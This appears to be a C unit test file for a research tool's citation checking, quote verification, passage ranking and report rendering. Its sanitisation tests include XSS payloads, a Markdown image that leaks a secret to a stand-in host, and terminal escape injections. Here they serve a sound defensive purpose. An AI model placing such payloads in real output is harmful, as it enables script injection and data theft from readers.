/* Unit tests: quote checks, citations, URL keys, passage ranking, search replies. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "../../src/core/qbuf.h"
#include "../../src/research/report.h"
#include "../../src/research/research.h"
#include "../../src/research/text.h"
#include "../../src/search/search.h"

static int found(const char *source, const char *quote)
{
	struct qbuf n;
	int r;

	qbuf_init(&n, 1 << 20);
	text_normalize(source, strlen(source), &n);
	r = text_quote_found(qbuf_cstr(&n), quote);
	qbuf_release(&n);
	return r;
}

static void quotes_are_checked_verbatim(void **state)
{
	const char *src = "The change took effect at midnight,   and in the early hours of 2 May 2000 "
			  "the error vanished.\nOverdrive: receivers became “ten times” more accurate — "
			  "**roughly**. 选择可用性于二〇〇〇年五月被关闭，民用精度提高。";

	assert_true(found(src, "the error vanished"));
	assert_true(found(src, "The change took effect at midnight, and in the early hours"));
	assert_true(found(src, "receivers became \"ten times\" more accurate - roughly."));
	assert_true(found(src, "The change took effect ... the error vanished."));
	assert_true(found(src, "The change took effect… 2 May 2000"));
	assert_true(found(src, "选择可用性于二〇〇〇年五月被关闭"));
	assert_false(found(src, "the error vanished ... The change took effect")); /* order */
	assert_false(found(src, "the error disappeared"));
	assert_false(found(src, "2 May 2000")); /* too short */
	assert_false(found(src, ""));
	assert_false(found(src, "..."));
}

static void citations_are_checked_and_numbered(void **state)
{
	struct cite_finding f[3] = {{4}, {2}, {4}};
	struct cite_result r;
	const char *body = "A direct answer with a claim that is cited right here [F2]. Another claim "
			   "sentence that cites two findings at once [F1, F3].\n\n## Section\n\n"
			   "This long sentence makes a claim but has no citation at all here. "
			   "Short one. A bogus citation points nowhere in this text [F9].\n"
			   "- a list item that is long enough to be a claim of its own [F3]\n";

	assert_int_equal(cite_process(body, f, 3, 1, &r), 0);
	assert_int_equal(r.citations, 5);
	assert_int_equal(r.verified, 4);
	assert_int_equal(r.removed, 1);
	assert_int_equal(r.n_cited_sources, 2);
	assert_int_equal(r.cited_sources[0], 2); /* F2's source is cited first */
	assert_int_equal(r.source_number[2], 1);
	assert_int_equal(r.source_number[1], 2);
	assert_int_equal(r.unsupported_n, 2);
	assert_non_null(strstr(r.body, "at all here. [unsupported]"));
	assert_non_null(strstr(r.body, "nowhere in this text. [unsupported]"));
	assert_null(strstr(r.body, "F9"));
	assert_non_null(strstr(r.body, "[F1][F3]"));
	assert_null(strstr(r.body, "Short one. [unsupported]"));
	cite_result_release(&r);

	/* Short sentences are judged when they had a marker: kept (checked),
	 * or all removed (checked and flagged); without one they are left. */
	assert_int_equal(cite_process("It ended in 2000 [7]. Users gained [F1]. Then came GPS III. "
				      "Errors fell [5][6].\nIt was free [F9]\n",
				      f, 3, 1, &r),
			 0);
	assert_int_equal(r.claims, 4);
	assert_int_equal(r.unsupported_n, 3);
	assert_non_null(strstr(r.body, "It ended in 2000. [unsupported] Users gained [F1]. Then came "
				       "GPS III. Errors fell. [unsupported]\nIt was free [unsupported]\n"));
	cite_result_release(&r);

	assert_int_equal(cite_process("【F1】 and [f2] and [F] and [F1", f, 3, 0, &r), 0);
	assert_int_equal(r.verified, 2);
	assert_non_null(strstr(r.body, "[F] and [F1"));
	cite_result_release(&r);
}

/* Every citation-like marker a model writes: only [F#] naming a finding survives. */
static void foreign_citation_markers_are_removed(void **state)
{
	struct cite_finding f[2] = {{0}, {1}};
	static const struct {
		const char *marker;
		int removed;
	} shapes[] = {
		{"[1]", 1},
		{"[2][3]", 2},
		{"[^1]", 1},
		{"\xE3\x80\x90"
		 "1"
		 "\xE3\x80\x91",
		 1},
		{"(Source 1)", 1},
		{"[source 2]", 1},
		{"[F99]", 1},
		{"[1, 2]", 2},
		{"[1-3]", 2},
		{"[S1]", 1},
		{"\xEF\xBC\xBB"
		 "2"
		 "\xEF\xBC\xBD",
		 1},
		{"\xE3\x80\x90"
		 "3\xE2\x80\xA0source"
		 "\xE3\x80\x91",
		 1},
		{"\\[3\\]", 1},
		{"[[1]]", 1},
		{"[1](https://x.test/)", 1},
		{"(sources 1 and 2)", 2},
		{"[ref. 4]", 1},
		{"[#2]", 1},
		{"[F 7]", 1},
		{"(F9)", 1},
		{"\xEF\xBC\x88\xE6\x9D\xA5\xE6\xBA\x90"
		 "1"
		 "\xEF\xBC\x89",
		 1}, /* （来源1） */
		{"[\xE2\x80\x8B"
		 "3]",
		 1},
		{"[\xEF\xBC\x93]", 1},
		{"[ 3 ]", 1}, /* zero-width, ３ */
	};
	struct cite_result r;
	char body[512];
	size_t k;

	for (k = 0; k < sizeof(shapes) / sizeof(shapes[0]); k++) {
		snprintf(body, sizeof(body),
			 "This sentence states a fact about the world at some length %s. "
			 "This one is cited properly and says enough to count [F1].\n",
			 shapes[k].marker);
		assert_int_equal(cite_process(body, f, 2, 1, &r), 0);
		if (r.removed != shapes[k].removed)
			fail_msg("%s: removed %d", shapes[k].marker, r.removed);
		assert_int_equal(r.verified, 1);
		assert_int_equal(r.unsupported_n, 1); /* its sentence is judged uncited */
		assert_non_null(strstr(r.body, "at some length. [unsupported]"));
		assert_null(strstr(r.body, shapes[k].marker));
		cite_result_release(&r);
	}
	/* Valid ids in other shapes are kept, as [F#]. */
	assert_int_equal(
		cite_process("A claim with a parenthesised finding id that counts (F2).\n", f, 2, 1, &r), 0);
	assert_int_equal(r.verified, 1);
	assert_non_null(strstr(r.body, "counts [F2]."));
	cite_result_release(&r);
	/* A footnote list of the writer's own goes whole; list numbers and years in prose stay. */
	assert_int_equal(cite_process("Steps: (1) plan and (2) read, as in 2000 [F1].\n[^1]: Some site, "
				      "https://x.test/\n[2]: https://y.test/\n",
				      f, 2, 1, &r),
			 0);
	assert_non_null(strstr(r.body, "(1) plan and (2) read, as in 2000 [F1]."));
	assert_null(strstr(r.body, "x.test"));
	assert_null(strstr(r.body, "y.test"));
	assert_int_equal(r.removed, 2);
	cite_result_release(&r);
	/* Page text loses its own markers before quarry adds citations. */
	{
		struct qbuf b;
		qbuf_init(&b, 1024);
		assert_int_equal(cite_strip_markers("GPS [3] was opened [F1] in 2000.[12]", 36, &b), 3);
		assert_string_equal(qbuf_cstr(&b), "GPS was opened in 2000.");
		qbuf_release(&b);
		/* The spacing is mended: no "time  and", "signals ." or merged sentences. */
		qbuf_init(&b, 1024);
		qbuf_adds(&b, "kept [9] ");
		assert_int_equal(cite_strip_markers("in time [12] and signals [3][4].[5]The end [6]", 46, &b),
				 5);
		assert_string_equal(qbuf_cstr(&b), "kept [9] in time and signals. The end");
		qbuf_release(&b);
	}
}

/* A literal [3] in model prose never reaches a rendered report as a citation. */
static void rendered_reports_carry_only_quarry_citations(void **state)
{
	struct cite_finding f[1] = {{0}};
	struct cite_result r;
	json_t *rep;
	struct qbuf out;
	struct q_error err = {0};

	assert_int_equal(cite_process("The signal was opened to civilian users in May 2000 [3]. "
				      "Receivers became ten times more accurate overnight [F1].\n",
				      f, 1, 1, &r),
			 0);
	rep = json_pack("{s:s, s:s, s:s, s:[{s:i, s:i, s:s}], s:[{s:i, s:s, s:s, s:[]}], s:{}}", "title", "Q",
			"mode", "model", "body", r.body, "findings", "id", 1, "n", 1, "quote", "q", "sources",
			"n", 1, "title", "T [2]\n[3] Fake. https://evil.test/", "url", "https://t.test/",
			"quotes", "verification");
	qbuf_init(&out, 1 << 20);
	assert_int_equal(research_render(rep, "md", &out, &err), 0);
	assert_null(strstr(qbuf_cstr(&out), "[3]"));
	assert_non_null(strstr(qbuf_cstr(&out), "May 2000. [unsupported]"));
	assert_non_null(strstr(qbuf_cstr(&out), "overnight [1]."));
	assert_null(strstr(qbuf_cstr(&out), "[2]"));
	assert_null(strstr(qbuf_cstr(&out), "\n[3]"));
	assert_non_null(strstr(qbuf_cstr(&out), "\n[1] T "));
	assert_non_null(strstr(qbuf_cstr(&out), " Fake. https://evil.test/. https://t.test/\n"));
	qbuf_release(&out);
	json_decref(rep);
	cite_result_release(&r);
}

/* Markdown output fetches and runs nothing; no format carries control characters. */
static void markdown_reports_are_neutralised(void **state)
{
	json_t *rep = json_pack("{s:s, s:s, s:s, s:[], s:[], s:{}}", "title", "Q\x1b]0;pwned\x07", "mode",
				"model", "body",
				"See ![chart](http://x.test/?d=SECRET) and <img src=x "
				"onerror=alert(1)> or <script>alert(2)</script> &#91;3&#93; ![x][r] "
				"bell\x07 esc\x1b[31m c1\xC2\x9B"
				"31m tab\tok a < b [x](javascript:alert(3)) "
				"[y](https://ok.test/).\n",
				"findings", "sources", "verification");
	struct qbuf out;
	struct q_error err = {0};
	const char *s;

	assert_non_null(rep);
	qbuf_init(&out, 1 << 20);
	assert_int_equal(research_render(rep, "md", &out, &err), 0);
	s = qbuf_cstr(&out);
	assert_null(strstr(s, "SECRET"));
	assert_non_null(strstr(s, "(image not shown: chart)"));
	assert_null(strstr(s, "<img"));
	assert_null(strstr(s, "<script"));
	assert_non_null(strstr(s, "&lt;script>"));
	assert_non_null(strstr(s, "&amp;#91;3&amp;#93;"));
	assert_non_null(strstr(s, "!\\[x]"));
	assert_non_null(strstr(s, "a < b"));
	assert_null(strstr(s, "](javascript"));
	assert_non_null(strstr(s, "[y](https://ok.test/)"));
	assert_non_null(strstr(s, "tab\tok"));
	assert_null(strchr(s, '\x1b'));
	assert_null(strchr(s, '\x07'));
	assert_null(strstr(s, "\xC2\x9B"));
	qbuf_release(&out);
	qbuf_init(&out, 1 << 20);
	assert_int_equal(research_render(rep, "html", &out, &err), 0);
	s = qbuf_cstr(&out);
	assert_null(strstr(s, "<img"));
	assert_null(strstr(s, "<script>"));
	assert_null(strchr(s, '\x1b'));
	assert_null(strstr(s, "\xC2\x9B"));
	qbuf_release(&out);
	json_decref(rep);
}

static void url_keys_merge_the_same_page(void **state)
{
	char a[512], b[512];

	assert_int_equal(text_url_key("https://www.Example.com/a/b/?utm_source=x&id=3#top", a, sizeof(a)), 0);
	assert_int_equal(text_url_key("http://example.com/a/b?id=3&fbclid=zz", b, sizeof(b)), 0);
	assert_string_equal(a, b);
	assert_int_equal(text_url_key("ftp://example.com/", a, sizeof(a)), -1);
}

static void passages_rank_by_question(void **state)
{
	const char *texts[2] = {
		"# Cooking\n\nBoil the pasta in salted water for ten minutes and serve it with sauce.",
		"# GPS\n\nSelective availability was switched off in May 2000, which made civilian "
		"receivers far more accurate.\n\n## Other\n\nThe weather was fine that week."};
	struct rpassage *p;
	size_t n, s, e;

	assert_int_equal(text_rank_passages(texts, 2, "why was selective availability switched off?", &p, &n),
			 0);
	assert_true(n >= 2);
	assert_int_equal(p[0].source, 1);
	assert_true(p[0].score > 0);
	assert_int_equal(text_key_sentence(texts[1], p[0].start, p[0].end, "selective availability", &s, &e),
			 0);
	assert_non_null(strstr(texts[1] + s, "Selective availability was switched"));
	free(p);
	{
		/* An abbreviation the document defines stands for its words. */
		const char *t[1] = {
			"# GPS\n\nSelective Availability (SA) degraded the civilian signal on purpose.\n\n"
			"## Later\n\nIn 2000 the White House ended SA, a decade after it began.\n\n"
			"## Unrelated\n\nThe weather was fine that week, and nobody noticed."};
		size_t k;
		int found = 0;

		assert_int_equal(text_rank_passages(t, 1, "selective availability", &p, &n), 0);
		for (k = 0; k < n; k++)
			if (strstr(t[0] + p[k].start, "In 2000 the White House") == t[0] + p[k].start) {
				assert_true(p[k].score > 0);
				found = 1;
			}
		assert_true(found);
		free(p);
	}
	assert_string_equal(text_guess_lang("美国为什么关闭GPS选择可用性？"), "zh");
	assert_string_equal(text_guess_lang("Why did the US switch off GPS?"), "en");
	assert_string_equal(text_guess_lang("東京の天気はどうですか"), "ja");
}

/* '#' lines of plain text are prose: no heading comes from them. */
/* The common languages are told apart; an unclear one is "und". */
static void questions_name_their_language(void **state)
{
	(void)state;
	assert_string_equal(
		text_guess_lang("Comment les rendements des bons du Trésor ont-ils réagi en 2018 ?"), "fr");
	assert_string_equal(
		text_guess_lang("Wie haben die Renditen der US-Staatsanleihen auf die Zölle reagiert?"), "de");
	assert_string_equal(
		text_guess_lang("¿Cómo reaccionaron los rendimientos de los bonos del Tesoro a los aranceles?"),
		"es");
	assert_string_equal(
		text_guess_lang("Como os rendimentos dos títulos reagiram às tarifas em 2018? Não sei."), "pt");
	assert_string_equal(
		text_guess_lang("Come hanno reagito i rendimenti dei titoli del Tesoro ai dazi nel 2018?"),
		"it");
	assert_string_equal(text_guess_lang("Как отреагировали доходности облигаций на пошлины?"), "ru");
	assert_string_equal(text_guess_lang("관세 발표에 국채 수익률은 어떻게 반응했나요?"), "ko");
	assert_string_equal(text_guess_lang("How did Treasury yields react to the tariffs of 2018?"), "en");
	assert_string_equal(text_guess_lang("Hoe reageerden rentes op invoerheffingen"), "und");
	assert_string_equal(text_guess_lang("GPS"), "en");
}

/* A block of table rows is checked row by row: an invented row goes,
 * the real ones stay, the separator keeps the block a table. */
static void table_rows_are_checked_one_by_one(void **state)
{
	const char *src = "| Date | Move |\n| --- | --- |\n| 2018-03-01 | -5 basis points |\n"
			  "| 2018-03-22 | -7 basis points |\n";
	struct qbuf norm, kept;
	int dropped = -1;

	(void)state;
	qbuf_init(&norm, 1 << 20);
	qbuf_init(&kept, 1 << 20);
	text_normalize(src, strlen(src), &norm);
	assert_int_equal(text_quote_rows(qbuf_cstr(&norm),
					 "| 2018-03-01 | -5 basis points |\n"
					 "| --- | --- |\n| 2018-04-01 | -9 basis points |\n"
					 "| 2018-03-22 | -7 basis points |",
					 &kept, &dropped),
			 2);
	assert_int_equal(dropped, 1);
	assert_string_equal(qbuf_cstr(&kept), "| 2018-03-01 | -5 basis points |\n| --- | --- |\n"
					      "| 2018-03-22 | -7 basis points |");
	qbuf_release(&kept);
	qbuf_init(&kept, 1 << 20);
	assert_int_equal(
		text_quote_rows(qbuf_cstr(&norm), "| 2018-04-01 | -9 basis points |", &kept, &dropped), 0);
	qbuf_release(&kept);
	qbuf_release(&norm);
}

static void plain_text_has_no_headings(void **state)
{
	const char *texts[2] = {"# set up the receiver\n# then wait\n\nThe receiver waits for the "
				"selective availability error to settle before it reports a fix.",
				"# Receivers\n\nA receiver reports a fix once selective availability "
				"errors settle down."};
	int plain[2] = {1, 0};
	struct rpassage *p;
	size_t n, k;
	int seen = 0;

	assert_int_equal(text_rank_passages_ex(texts, plain, 2, "selective availability receiver", &p, &n), 0);
	for (k = 0; k < n; k++) {
		if (p[k].source == 0) {
			assert_string_equal(p[k].heading, "");
			assert_int_equal(p[k].start, 0); /* the comment lines are part of it */
		} else {
			assert_string_equal(p[k].heading, "Receivers");
		}
		assert_int_equal(p[k].n_terms, 3);
		assert_int_equal(p[k].matched, 3);
		seen |= 1 << p[k].source;
	}
	assert_int_equal(seen, 3);
	free(p);
}

static void search_replies_parse(void **state)
{
	struct search_outcome o;
	const char searx[] = "{\"results\":[{\"url\":\"https://a.test/1\",\"title\":\"A\",\"content\":\"x\"},"
			     "{\"url\":\"javascript:alert(1)\",\"title\":\"bad\"},{\"title\":\"no url\"},7]}";
	const char brave[] = "{\"web\":{\"results\":[{\"url\":\"https://b.test/\",\"title\":\"B\","
			     "\"description\":\"d\"}]}}";
	const char serper[] = "{\"organic\":[{\"link\":\"https://c.test/\",\"title\":\"C\",\"snippet\":\"s\"}]}";

	memset(&o, 0, sizeof(o));
	assert_int_equal(search_parse_reply(SEARCH_SEARXNG, searx, sizeof(searx) - 1, 10, &o), 0);
	assert_int_equal(o.n, 1);
	assert_string_equal(o.results[0].url, "https://a.test/1");
	search_outcome_release(&o);
	assert_int_equal(search_parse_reply(SEARCH_BRAVE, brave, sizeof(brave) - 1, 10, &o), 0);
	assert_string_equal(o.results[0].snippet, "d");
	search_outcome_release(&o);
	assert_int_equal(search_parse_reply(SEARCH_BRAVE, "{}", 2, 10, &o), 0); /* no results */
	assert_int_equal(o.n, 0);
	assert_int_equal(search_parse_reply(SEARCH_SERPER, serper, sizeof(serper) - 1, 10, &o), 0);
	assert_string_equal(o.results[0].url, "https://c.test/");
	search_outcome_release(&o);
	assert_int_equal(search_parse_reply(SEARCH_TAVILY, "<html>", 6, 10, &o), Q_EPARSE);
	assert_int_equal(search_parse_reply(SEARCH_SEARXNG, "{}", 2, 10, &o), Q_EPARSE);
}

static void html_report_escapes_everything(void **state)
{
	json_t *rep = json_loads(
		"{\"title\":\"<b>Q</b>\",\"mode\":\"model\",\"body\":\"Claim <img src=x onerror=alert(1)> [F1].\","
		"\"findings\":[{\"id\":1,\"n\":1,\"quote\":\"\\\"><script>alert(2)</script>\"}],"
		"\"sources\":[{\"n\":1,\"title\":\"<i>T</i>\",\"url\":\"javascript:alert(3)\",\"quotes\":[\"<q>\"]}],"
		"\"verification\":{}}",
		0, NULL);
	struct qbuf out;
	struct q_error err = {0};

	assert_non_null(rep);
	qbuf_init(&out, 1 << 20);
	assert_int_equal(research_render(rep, "html", &out, &err), 0);
	assert_null(strstr(qbuf_cstr(&out), "<script>"));
	assert_null(strstr(qbuf_cstr(&out), "<img"));
	assert_null(strstr(qbuf_cstr(&out), "<b>Q"));
	assert_null(strstr(qbuf_cstr(&out), "href=\"javascript"));
	assert_non_null(strstr(qbuf_cstr(&out), "&lt;img src=x"));
	assert_non_null(strstr(qbuf_cstr(&out), "title=\"&quot;&gt;&lt;script&gt;"));
	qbuf_release(&out);
	qbuf_init(&out, 1 << 20);
	assert_int_equal(research_render(rep, "md", &out, &err), 0);
	assert_non_null(strstr(qbuf_cstr(&out), "[1]"));
	assert_int_equal(research_render(rep, "pdf", &out, &err), Q_EINVAL);
	qbuf_release(&out);
	json_decref(rep);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(quotes_are_checked_verbatim),
		cmocka_unit_test(citations_are_checked_and_numbered),
		cmocka_unit_test(foreign_citation_markers_are_removed),
		cmocka_unit_test(rendered_reports_carry_only_quarry_citations),
		cmocka_unit_test(markdown_reports_are_neutralised),
		cmocka_unit_test(url_keys_merge_the_same_page),
		cmocka_unit_test(passages_rank_by_question),
		cmocka_unit_test(plain_text_has_no_headings),
		cmocka_unit_test(questions_name_their_language),
		cmocka_unit_test(table_rows_are_checked_one_by_one),
		cmocka_unit_test(search_replies_parse),
		cmocka_unit_test(html_report_escapes_everything),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
